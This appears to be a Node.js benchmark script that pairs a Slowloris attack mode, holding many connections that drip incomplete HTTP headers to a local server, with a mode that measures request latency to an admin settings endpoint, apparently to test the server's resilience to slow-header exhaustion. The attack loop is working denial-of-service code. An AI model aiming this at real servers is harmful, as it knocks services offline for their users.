// The two halves of bench/slowloris.sh, each in its own process so that
// neither's event loop delays the other:
//   node slowloris.mjs attack PORT COUNT SECONDS FROM
//     holds COUNT connections from address FROM, each sending one more
//     header byte every second and never finishing its head; a connection
//     the server closes or refuses is opened again after 250 ms. Prints a
//     status line per second ("held N opened N closed N") and stops after
//     SECONDS.
//   node slowloris.mjs measure PORT TOKEN SAMPLES MODE
//     MODE "new": one new connection per request (Connection: close);
//     MODE "keepalive": one kept-alive connection, requests one after the
//     other. GET /api/v1/settings as admin from 127.0.0.1, SAMPLES times
//     (bounded by 60 s). Prints one JSON line: n, errors, p50, p99, max (ms).
import http from 'node:http';
import net from 'node:net';

const [mode, portText, ...rest] = process.argv.slice(2);
const port = Number(portText);

function attack(count, seconds, from) {
  let held = 0, opened = 0, closed = 0, stopping = false;
  const sockets = new Set();
  function open(i) {
    if (stopping) return;
    const s = net.connect({ host: '127.0.0.1', port, localAddress: from });
    let alive = false;
    const tick = setInterval(() => { if (alive) s.write('X'); }, 1000);
    s.on('connect', () => {
      alive = true; held++; opened++;
      // A head that is never finished: one header line, then a byte a second.
      s.write(`GET /api/v1/settings HTTP/1.1\r\nHost: 127.0.0.1\r\nX-a${i}: `);
    });
    s.on('data', () => {});
    s.on('error', () => {});
    s.on('close', () => {
      clearInterval(tick);
      sockets.delete(s);
      if (alive) { held--; closed++; }
      setTimeout(() => open(i), 250);
    });
    sockets.add(s);
  }
  for (let i = 0; i < count; i++) open(i);
  const status = setInterval(() => console.log(`held ${held} opened ${opened} closed ${closed}`), 1000);
  setTimeout(() => {
    stopping = true;
    clearInterval(status);
    console.log(`held ${held} opened ${opened} closed ${closed}`);
    for (const s of sockets) s.destroy();
    setTimeout(() => process.exit(0), 200);
  }, seconds * 1000);
  process.on('SIGTERM', () => { stopping = true; for (const s of sockets) s.destroy(); process.exit(0); });
}

function get(agent, token) {
  return new Promise((resolve) => {
    const t0 = process.hrtime.bigint();
    const req = http.request({
      host: '127.0.0.1', port, path: '/api/v1/settings', agent, localAddress: '127.0.0.1',
      headers: { authorization: `Bearer ${token}`, ...(agent ? {} : { connection: 'close' }) },
    }, (res) => {
      res.on('data', () => {});
      res.on('end', () => resolve({ ok: res.statusCode === 200, ms: Number(process.hrtime.bigint() - t0) / 1e6 }));
    });
    req.setTimeout(10000, () => req.destroy(new Error('timeout')));
    req.on('error', () => resolve({ ok: false, ms: Number(process.hrtime.bigint() - t0) / 1e6 }));
    req.end();
  });
}

async function measure(token, samples, how) {
  const agent = how === 'keepalive' ? new http.Agent({ keepAlive: true, maxSockets: 1 }) : false;
  const until = Date.now() + 60000;
  const ms = [];
  let errors = 0;
  for (let i = 0; i < 50; i++) await get(agent, token); // warm-up, not counted
  while (ms.length + errors < samples && Date.now() < until) {
    const r = await get(agent, token);
    if (r.ok) ms.push(r.ms); else errors++;
  }
  ms.sort((a, b) => a - b);
  const q = (p) => (ms.length ? ms[Math.min(ms.length - 1, Math.floor(p * ms.length))] : NaN);
  console.log(JSON.stringify({ mode: how, n: ms.length, errors, p50: q(0.5), p99: q(0.99), max: ms.at(-1) ?? NaN }));
  if (agent) agent.destroy();
}

if (mode === 'attack') attack(Number(rest[0]), Number(rest[1]), rest[2]);
else if (mode === 'measure') await measure(rest[0], Number(rest[1]), rest[2]);
else { console.error('usage: slowloris.mjs attack|measure ...'); process.exit(2); }
